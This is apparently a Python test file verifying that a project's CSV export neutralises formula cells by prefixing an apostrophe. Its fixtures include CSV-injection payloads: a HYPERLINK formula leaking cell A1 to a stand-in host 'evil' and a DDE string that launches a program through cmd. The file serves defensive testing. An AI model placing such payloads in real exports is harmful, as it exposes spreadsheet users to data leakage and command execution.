"""Every CSV the project writes defuses formula cells (issue 12, item 7)."""

from __future__ import annotations

import csv
import io

from dashboards.http import csv_response
from livehost.core.csvcell import csv_cell


def test_formula_cells_get_an_apostrophe_and_other_cells_are_kept():
    for bad in ('=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1",
                "\r=1", "  =1", "＝1+1"):
        assert csv_cell(bad) == "'" + bad
    for good in ("好的，这款保温杯59元", "hello = world", "", "'quoted", 59, -3.5, None):
        assert csv_cell(good) == good


def test_the_console_export_writes_no_live_formula():
    rows = [{"text": '=HYPERLINK("http://evil/","click")', "user": "@admin", "wall_time": 1.5}]
    body = csv_response(rows, "x.csv").body.decode("utf-8-sig")
    cells = list(csv.DictReader(io.StringIO(body)))[0]
    assert cells["text"] == "'=HYPERLINK(\"http://evil/\",\"click\")" and cells["user"] == "'@admin"
    assert cells["wall_time"] == "1.5"
